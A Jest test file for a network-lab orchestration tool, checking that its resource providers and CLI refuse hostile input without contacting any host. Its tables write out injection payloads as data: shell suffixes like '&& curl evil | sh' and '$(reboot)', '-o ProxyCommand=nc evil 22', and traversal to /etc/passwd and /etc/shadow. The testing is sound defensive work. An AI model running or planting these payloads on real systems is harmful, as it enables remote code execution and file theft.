/**
 * Hostile and broken input, refused before anything reaches a host.
 *
 * 1. Every file in test/fixtures/bad/ (malformed YAML, each validation rule, typos, shell
 *    metacharacters, option injection, path traversal, over-long and non-ASCII values) gives
 *    ONE TopologyError naming the field its first line promises (`# expect: nodes[1].role`).
 * 2. Every string input of every resource's `check` (OvsBridge, GreTunnel, FlowPath,
 *    MigratedDomain, including each connection's fields and the secret key properties) is
 *    tried with every hostile class: refused with a failure whose property is that input.
 * 3. The `vpm` CLI refuses hostile option values (exit code != 0, the option named).
 *
 * "No host contacted" is proved by spies that fail the test on any use: the connection pool
 * (getRunner, withHostLock), SshRunner.run, a TCP connect, and every child_process launcher.
 * The CLI runs in a child process against an empty lab dir with a fake inventory whose
 * namespaces do not exist: afterwards no namespace of that prefix exists and nothing was written.
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { loadTopologyFile, TopologyError } from '../../components/topology';
import * as pool from '../../providers/exec/pool';
import { SshRunner } from '../../providers/exec/ssh';
import { LocalRunner } from '../../providers/exec/local';
import { parsePinnedKey } from '../../providers/exec/hostkey';
import { provider as bridgeProvider } from '../../providers/ovs-bridge/provider';
import { provider as tunnelProvider } from '../../providers/gre-tunnel/provider';
import { provider as pathProvider } from '../../providers/flow-path/provider';
import { provider as domainProvider } from '../../providers/migrated-domain/provider';

// The real module objects (not TypeScript's import copies), so spies replace what callers use.
// eslint-disable-next-line @typescript-eslint/no-require-imports
const childProcess = require('node:child_process') as typeof import('node:child_process');
// eslint-disable-next-line @typescript-eslint/no-require-imports
const net = require('node:net') as typeof import('node:net');

const ROOT = path.resolve(__dirname, '..', '..');
const BAD_DIR = path.join(ROOT, 'test', 'fixtures', 'bad');

// ---------------------------------------------------------------------------------------
// "no host contacted": every way out of this process is a test failure

let spies: jest.SpyInstance[] = [];

function armSpies(): void {
  const refuse = (what: string) => () => {
    throw new Error(`${what} was called: a hostile input reached the transport`);
  };
  spies = [
    jest.spyOn(pool, 'getRunner').mockImplementation(refuse('pool.getRunner')),
    jest.spyOn(pool, 'withHostLock').mockImplementation(refuse('pool.withHostLock')),
    jest.spyOn(SshRunner.prototype, 'run').mockImplementation(refuse('SshRunner.run')),
    jest.spyOn(net.Socket.prototype, 'connect').mockImplementation(refuse('net.Socket.connect')),
    ...(['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork'] as const).map((fn) =>
      jest.spyOn(childProcess, fn).mockImplementation(refuse(`child_process.${fn}`) as never),
    ),
  ];
}

function checkSpies(): void {
  for (const s of spies) {
    expect(s).not.toHaveBeenCalled();
    s.mockRestore();
  }
  spies = [];
}

describe('the spies catch a real attempt (so a silent pass means nothing was attempted)', () => {
  test('pool, local processes and sockets are all intercepted', async () => {
    armSpies();
    try {
      expect(() => pool.getRunner(conn('192.0.2.9'))).toThrow(/pool.getRunner was called/);
      await expect(new LocalRunner().run(['true'])).rejects.toThrow(/child_process.spawn was called/);
      expect(() => net.connect({ host: '192.0.2.9', port: 22 })).toThrow(/net.Socket.connect was called/);
    } finally {
      for (const s of spies.splice(0)) s.mockRestore();
    }
  });
});

/** Tallies for the README figures (printed once at the end). */
const tally = { fixtures: 0, checkInputs: 0, byDesign: 0, cli: 0 };

afterAll(() => {
  process.stderr.write(
    `hostile input: ${tally.fixtures} broken topologies, ${tally.checkInputs} hostile check inputs, ` +
      `${tally.cli} hostile CLI invocations rejected; ${tally.byDesign} accepted by design (local key paths, key comments)\n`,
  );
});

// ---------------------------------------------------------------------------------------
// 1. broken topologies

interface Fixture {
  file: string;
  expect: string;
  cls: string;
}

function fixtures(): Fixture[] {
  return fs
    .readdirSync(BAD_DIR)
    .filter((f) => f.endsWith('.yaml'))
    .sort()
    .map((f) => {
      const text = fs.readFileSync(path.join(BAD_DIR, f), 'utf8');
      const expectLine = /^# expect: (.+)$/m.exec(text);
      const clsLine = /^# class: (.+)$/m.exec(text);
      if (!expectLine || !clsLine) throw new Error(`${f}: the first lines must be "# expect: <field path>" and "# class: <input class>"`);
      return { file: f, expect: expectLine[1].trim(), cls: clsLine[1].trim() };
    });
}

describe('broken topologies (test/fixtures/bad): one TopologyError naming the field, no host contacted', () => {
  const all = fixtures();

  beforeEach(armSpies);
  afterEach(checkSpies);

  test('there are 30+ of them and they cover every input class', () => {
    expect(all.length).toBeGreaterThanOrEqual(30);
    expect(new Set(all.map((f) => f.cls))).toEqual(new Set(['yaml', 'rule', 'type', 'typo', 'shell', 'option', 'traversal', 'long', 'unicode']));
  });

  test.each(all.map((f) => [f.file, f] as const))('%s', (_name, f) => {
    const file = path.join(BAD_DIR, f.file);
    let error: unknown;
    const t0 = Date.now();
    try {
      loadTopologyFile(file);
    } catch (e) {
      error = e;
    }
    expect(Date.now() - t0).toBeLessThan(2000);
    expect(error).toBeInstanceOf(TopologyError);
    const problems = (error as TopologyError).problems;
    // One error naming the field. A YAML syntax error may add its own follow-on complaints at
    // the same place; every other fixture has exactly one problem.
    expect([...new Set(problems.map((p) => p.path))]).toEqual([f.expect]);
    if (f.expect !== '(yaml)') expect(problems).toHaveLength(1);
    const message = (error as TopologyError).message;
    expect(message).toContain(file); // names the file
    expect(message).toContain(`${f.expect}: `); // and the field
    // Clear: "<what is wrong>; <how to fix>", one bounded line per problem, no raw control or
    // non-ASCII characters (they are shown escaped), so nothing hostile reaches a terminal.
    for (const p of problems) {
      expect(p.message).toMatch(/; /);
      expect(p.message.length).toBeLessThan(400);
      expect(p.message).not.toMatch(/[\u0000-\u001f\u007f-\uffff]/);
    }
    tally.fixtures++;
  });
});

// ---------------------------------------------------------------------------------------
// 2. every string input of every resource's check

const HOST_KEY =
  'ssh-ed25519 ' +
  Buffer.concat([Buffer.from([0, 0, 0, 11]), Buffer.from('ssh-ed25519'), Buffer.from([0, 0, 0, 32]), Buffer.alloc(32, 7)]).toString('base64');
const SECRET_MARKER = 'FAULTSUITESECRETKEYMATERIAL';
const PRIVATE_KEY = `-----BEGIN OPENSSH PRIVATE KEY-----\n${SECRET_MARKER}\n-----END OPENSSH PRIVATE KEY-----\n`;

// TEST-NET addresses (RFC 5737): nothing answers there; a long timeout would show any attempt.
const conn = (host: string) => ({ host, user: 'root', hostKey: HOST_KEY, privateKeyPath: '/nonexistent/id_ed25519', netns: 'vpmlab-ul', connectTimeoutMs: 60_000 });

const bridgeBase = () => ({
  connection: conn('192.0.2.1'),
  owner: 'vpm/faults/br1-h1',
  name: 'br1',
  datapathType: 'netdev',
  failMode: 'secure',
  protocols: ['OpenFlow10', 'OpenFlow13', 'OpenFlow14', 'OpenFlow15'],
  patch: { physicalBridge: 'br0', uplink: 'eth0', overlayPort: 'patch-ovl', physicalPort: 'patch-phy', overlayOfport: 1 },
  internalPorts: [{ name: 'src0', ofport: 2 }],
});

const tunnelEnd = (host: string, remoteIp: string, portName: string) => ({
  connection: conn(host),
  bridge: 'br1',
  remoteIp,
  underlayBridge: 'br0',
  portName,
  ofport: 102,
});
const tunnelBase = () => ({
  a: tunnelEnd('192.0.2.1', '10.250.0.12', 'gre-h2'),
  b: tunnelEnd('192.0.2.2', '10.250.0.11', 'gre-h1'),
  owner: 'vpm/faults/gre-h1-h2',
  key: 7,
});

const pathBase = () => ({
  pathId: 'r1-h3-5004',
  owner: 'vpm/faults/path-r1-h3-5004',
  stream: { udpDst: 5004, srcIp: '10.99.0.1' },
  hops: [
    { node: 'h1', connection: conn('192.0.2.1'), bridge: 'br1', inPort: 2, outPort: 102, neighbours: [{ ip: '10.250.0.12', mac: '02:56:50:00:00:02' }] },
    { node: 'h2', connection: conn('192.0.2.2'), bridge: 'br1', inPort: 101, outPort: 103, vmPort: 20, vmMac: '02:56:99:00:00:14', vmIp: '10.99.0.20' },
    { node: 'h3', connection: conn('192.0.2.3'), bridge: 'br1', inPort: 102, outPort: 1 },
  ],
  egress: { receiverIp: '10.250.0.201', receiverMac: '02:56:52:00:00:01', srcMac: '02:56:50:00:00:03' },
});

const domainBase = () => ({
  name: 'leafvm',
  host: 'h3',
  connection: conn('192.0.2.3'),
  migrationUri: 'qemu+ssh://10.250.0.13/system',
  role: 'leaf',
  memoryMiB: 96,
  vcpus: 1,
  kernel: '/root/.cache/vpm/guest/vmlinux',
  initrd: '/root/.cache/vpm/guest/initramfs.cpio.gz',
  emulator: '/root/.cache/vpm/guest/qemu-system-x86_64-vpm',
  cmdline: 'console=ttyS0 quiet vpm.ip=10.99.0.20/24',
  network: { bridge: 'br1', tap: 'vt-leafvm', ofport: 20, mac: '02:56:99:00:00:14' },
  migration: { live: true, timeoutMs: 120_000 },
  peers: [{ host: 'h4', connection: conn('192.0.2.4') }],
  owner: 'vpm/faults/tree-vm-leafvm',
});

type Provider = typeof bridgeProvider;
type Failure = { property: string; reason: string };

/** The string inputs of a connection at `prefix` (e.g. "hops[1].connection"). */
const connectionFields = (prefix: string) => ['host', 'user', 'hostKey', 'netns', 'privateKey'].map((f) => `${prefix}.${f}`);

/** Every string input of every resource, with the value that passes check. */
const RESOURCES: Array<{ name: string; provider: Provider; base: () => Record<string, any>; fields: string[] }> = [
  {
    name: 'OvsBridge',
    provider: bridgeProvider,
    base: bridgeBase,
    fields: [
      ...connectionFields('connection'),
      'privateKey',
      'owner',
      'name',
      'datapathType',
      'failMode',
      'protocols[0]',
      'patch.physicalBridge',
      'patch.uplink',
      'patch.overlayPort',
      'patch.physicalPort',
      'internalPorts[0].name',
    ],
  },
  {
    name: 'GreTunnel',
    provider: tunnelProvider,
    base: tunnelBase,
    fields: [
      ...connectionFields('a.connection'),
      ...connectionFields('b.connection'),
      ...['a', 'b'].flatMap((e) => ['bridge', 'remoteIp', 'underlayBridge', 'portName'].map((f) => `${e}.${f}`)),
      'aPrivateKey',
      'bPrivateKey',
      'owner',
    ],
  },
  {
    name: 'FlowPath',
    provider: pathProvider,
    base: pathBase,
    fields: [
      'pathId',
      'owner',
      'cookie',
      'stream.srcIp',
      ...[0, 1, 2].flatMap((i) => [`hops[${i}].node`, `hops[${i}].bridge`]),
      ...connectionFields('hops[2].connection'),
      'hops[1].vmMac',
      'hops[1].vmIp',
      'hops[0].neighbours[0].ip',
      'hops[0].neighbours[0].mac',
      'egress.receiverIp',
      'egress.receiverMac',
      'egress.srcMac',
      'privateKeys[1]',
    ],
  },
  {
    name: 'MigratedDomain',
    provider: domainProvider as Provider,
    base: domainBase,
    fields: [
      ...connectionFields('connection'),
      'privateKey',
      'name',
      'host',
      'migrationUri',
      'role',
      'kernel',
      'initrd',
      'emulator',
      'cmdline',
      'network.bridge',
      'network.tap',
      'network.mac',
      'peers[0].host',
      ...connectionFields('peers[0].connection'),
      'owner',
    ],
  },
];

/** The hostile classes: each turns the valid value of a field into a hostile one. */
const CLASSES: Array<[string, (valid: string) => string]> = [
  ['shell ;', (v) => `${v};reboot`],
  ['shell && |', (v) => `${v} && curl evil | sh`],
  ['shell $()', (v) => `${v}$(reboot)`],
  ['shell backticks', (v) => `${v}\`reboot\``],
  ['shell newline', (v) => `${v}\nreboot`],
  ['NUL byte', (v) => `${v}\u0000rm`],
  ['option --foo', () => '--foo'],
  ['option -o ProxyCommand', () => '-o ProxyCommand=nc evil 22'],
  ['traversal ../../etc/passwd', () => '../../etc/passwd'],
  ['traversal inside', (v) => `${v}/../../../etc/shadow`],
  ['over-long', (v) => `${v}${'a'.repeat(5000)}`],
  ['non-ASCII homoglyph', (v) => `${v}\u0430`], // Cyrillic "a"
  ['non-ASCII bidi override', (v) => `\u202e${v}`],
];

/**
 * Inputs that are legitimately free text and are never used as a command argument:
 * connection.privateKeyPath (a file on the machine that runs Pulumi, opened with Node's fs)
 * is deliberately not in the table; its own test below shows it only refuses NUL/empty.
 */
function getAt(obj: any, p: string): any {
  return p.split(/\.|\[(\d+)\]/).filter(Boolean).reduce((o, k) => (o == null ? undefined : o[k]), obj);
}

function setAt(obj: any, p: string, value: unknown): void {
  const keys = p.split(/\.|\[(\d+)\]/).filter(Boolean);
  let o = obj;
  for (const k of keys.slice(0, -1)) o = o[k];
  o[keys[keys.length - 1]] = value;
}

const isKeyField = (field: string): boolean => /privateKeys?\b|PrivateKey$|\.privateKey$/.test(field);

/** What passes check at `field` when the baseline has nothing there. */
function validValue(base: Record<string, any>, field: string): string {
  const v = getAt(base, field);
  if (typeof v === 'string') return v;
  if (isKeyField(field)) return PRIVATE_KEY;
  if (field === 'cookie') return '0x56aa';
  throw new Error(`no valid value for ${field}`);
}

/** The baseline with `field` set (an inline key replaces the key path, which it conflicts with). */
function withValue(resource: (typeof RESOURCES)[number], field: string, value: string): Record<string, any> {
  const inputs = resource.base();
  if (field.endsWith('connection.privateKey')) delete getAt(inputs, field.replace(/\.privateKey$/, '')).privateKeyPath;
  if (field.startsWith('privateKeys[')) inputs.privateKeys = inputs.hops.map(() => null);
  setAt(inputs, field, value);
  return inputs;
}

async function check(p: Provider, inputs: Record<string, unknown>): Promise<{ inputs?: unknown; failures?: Failure[] }> {
  const t0 = Date.now();
  const r = (await p.check!({}, inputs)) as { inputs?: unknown; failures?: Failure[] };
  expect(Date.now() - t0).toBeLessThan(1000); // nothing waited for a network
  return r;
}

describe("every string input of every resource's check: hostile values refused, no command run", () => {
  beforeEach(armSpies);
  afterEach(checkSpies);

  test.each(RESOURCES.map((r) => [r.name, r] as const))('%s: the valid baseline (and a valid value at each field) passes', async (_n, r) => {
    expect((await check(r.provider, r.base())).failures ?? []).toEqual([]);
    for (const field of r.fields) {
      const res = await check(r.provider, withValue(r, field, validValue(r.base(), field)));
      expect({ field, failures: res.failures ?? [] }).toEqual({ field, failures: [] });
    }
  });

  const cases = RESOURCES.flatMap((r) => r.fields.flatMap((field) => CLASSES.map(([cls, make]) => [r.name, field, cls, r, make] as const)));

  test.each(cases)('%s %s: %s', async (_n, field, cls, r, make) => {
    // A private key is secret text only ever handed to the SSH library; what check promises is
    // that anything that is not key text is refused (without echoing it), so the hostile value
    // is built from nothing rather than appended to a key.
    const hostile = make(isKeyField(field) ? '' : validValue(r.base(), field));
    const res = await check(r.provider, withValue(r, field, hostile));
    if (field.endsWith('.hostKey') && cls === 'shell && |') {
      // By design: after a space, "&& curl evil | sh" is the OpenSSH key line's free-text
      // comment. Only the key itself is pinned (the same fingerprint as without the comment)
      // and a pin is never part of a command.
      expect(res.failures ?? []).toEqual([]);
      expect(parsePinnedKey(hostile).fingerprint).toBe(parsePinnedKey(HOST_KEY).fingerprint);
      tally.byDesign++;
      return;
    }
    expect(res.inputs).toBeUndefined();
    const failures = res.failures ?? [];
    // Refused AT that input: the failure's property is the field (Pulumi prints "<property>: <reason>").
    expect(failures.map((f) => f.property)).toContain(field);
    const text = JSON.stringify(failures);
    expect(text).not.toContain(SECRET_MARKER); // a key is never echoed, not even a bad one
    for (const f of failures) expect(f.reason.length).toBeLessThan(400); // bounded, even for 5000 characters
    tally.checkInputs++;
  });

  test('connection.privateKeyPath is a local file path: only NUL or empty is refused (it is opened with fs, never a command argument)', async () => {
    for (const value of ['../../etc/passwd', '--foo', '-o ProxyCommand=x', '$(reboot)', 'key\nfile']) {
      const r = await check(bridgeProvider, { ...bridgeBase(), connection: { ...conn('192.0.2.1'), privateKeyPath: value } });
      expect(r.failures ?? []).toEqual([]);
      tally.byDesign++;
    }
    for (const value of ['', '   ', 'key\u0000file']) {
      const r = await check(bridgeProvider, { ...bridgeBase(), connection: { ...conn('192.0.2.1'), privateKeyPath: value } });
      expect((r.failures ?? []).map((f) => f.property)).toContain('connection.privateKeyPath');
      tally.checkInputs++;
    }
  });
});

// ---------------------------------------------------------------------------------------
// 3. the CLI

describe('the vpm CLI refuses hostile option values', () => {
  const CLI = path.join(ROOT, 'dist', 'cli', 'vpm.js');
  const PREFIX = 'vpmhst-';
  let dir: string;
  let env: NodeJS.ProcessEnv;

  beforeAll(() => {
    if (!fs.existsSync(CLI) || fs.statSync(CLI).mtimeMs < fs.statSync(path.join(ROOT, 'cli', 'vpm.ts')).mtimeMs) {
      throw new Error(`${CLI} is missing or older than cli/vpm.ts: run \`npx tsc -p tsconfig.json\``);
    }
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'vpm-hostile-cli-'));
    // A lab that does not exist (its namespaces are not there): commands that get past the
    // option checks would reach the name checks against this inventory, never a host.
    fs.writeFileSync(
      path.join(dir, 'inventory.json'),
      JSON.stringify({
        version: 1,
        createdAt: '2025-01-01T00:00:00.000Z',
        underlay: { netns: `${PREFIX}ul`, cidr: '10.250.0.0/24', bridge: 'ul0', ip: '10.250.0.1' },
        privateKeyPath: path.join(dir, 'id_ed25519'),
        knownHostsPath: path.join(dir, 'known_hosts'),
        hypervisors: [
          { name: 'h1', netns: `${PREFIX}h1`, ip: '10.250.0.11', mac: '02:56:50:00:00:01', sshPort: 22, user: 'root', hostKey: HOST_KEY, hostKeyFingerprint: `SHA256:${'A'.repeat(43)}`, ovsRunDir: path.join(dir, 'h1', 'ovs') },
        ],
        receivers: [{ name: 'r1', netns: `${PREFIX}r1`, ip: '10.250.0.201', mac: '02:56:52:00:00:01' }],
      }),
    );
    env = { ...process.env, VPM_LAB_DIR: dir, VPM_LAB_NS_PREFIX: PREFIX };
  });

  afterAll(() => {
    // Nothing was built: no namespace of the prefix, nothing but the inventory in the dir.
    const namespaces = childProcess.spawnSync('ip', ['netns', 'list'], { encoding: 'utf8' }).stdout ?? '';
    expect(namespaces.split('\n').filter((l) => l.startsWith(PREFIX))).toEqual([]);
    expect(fs.readdirSync(dir)).toEqual(['inventory.json']);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  const CASES: Array<[string, string[], RegExp]> = [
    ['hypervisors with ;', ['lab', 'up', '--hypervisors', '1;reboot'], /--hypervisors <n>.*'1;reboot' is invalid/],
    ['hypervisors with $()', ['lab', 'up', '--hypervisors', '$(reboot)'], /--hypervisors <n>.*is invalid/],
    ['hypervisors as an option', ['lab', 'up', '--hypervisors', '--foo'], /--hypervisors <n>.*'--foo' is invalid/],
    ['hypervisors -o ProxyCommand', ['lab', 'up', '--hypervisors', '-o ProxyCommand=nc evil 22'], /--hypervisors <n>.*is invalid/],
    ['hypervisors over-long', ['lab', 'up', '--hypervisors', '9'.repeat(400)], /--hypervisors <n>.*out of range/],
    ['hypervisors fullwidth digit', ['lab', 'up', '--hypervisors', '\uff11'], /--hypervisors <n>.*is invalid/],
    ['receivers as a path', ['lab', 'up', '--receivers', '../../etc/passwd'], /--receivers <m>.*is invalid/],
    ['stack as a path', ['lab', 'up', '--stack', '../../etc/passwd'], /--stack <name>.*not a valid stack name/],
    ['stack with ;', ['lab', 'up', '--stack', 'lab;reboot'], /--stack <name>.*not a valid stack name/],
    ['an unknown option', ['lab', 'up', '--foo'], /unknown option '--foo'/],
    ['exec in a hostile node', ['lab', 'exec', 'h1;reboot', '--', 'true'], /no lab node named 'h1;reboot'/],
    ['exec in a traversal node', ['lab', 'exec', '../../etc/passwd', '--', 'true'], /no lab node named/],
    ['stream port with ;', ['stream', 'send', '--port', '5004;reboot'], /--port <n>.*is invalid/],
    ['stream rate negative', ['stream', 'send', '--rate', '-1'], /--rate <n>.*is invalid/],
    ['stream seconds huge', ['stream', 'watch', '--seconds', '1e999'], /--seconds <s>.*is invalid/],
    ['stream receiver with ;', ['stream', 'watch', '--receiver', 'r1;reboot', '--seconds', '1'], /no receiver "r1;reboot"/],
    ['stream root as an option', ['stream', 'send', '--root', '--foo', '--seconds', '1'], /root "--foo" is not a hypervisor/],
    ['stream root with $()', ['stream', 'send', '--root', 'h1$(reboot)', '--seconds', '1'], /is not a hypervisor/],
    ['stream stack as a path', ['stream', 'watch', '--stack', '../../etc/passwd', '--seconds', '1'], /bad stack name/],
  ];

  test.each(CASES)('%s', (_what, args, message) => {
    const r = childProcess.spawnSync(process.execPath, [CLI, ...args], { env, encoding: 'utf8', timeout: 30_000 });
    expect({ args, status: r.status === 0 ? 0 : 'refused', stderr: r.stderr }).toEqual({ args, status: 'refused', stderr: expect.stringMatching(message) });
    expect(r.stdout).toBe('');
    tally.cli++;
  });
});
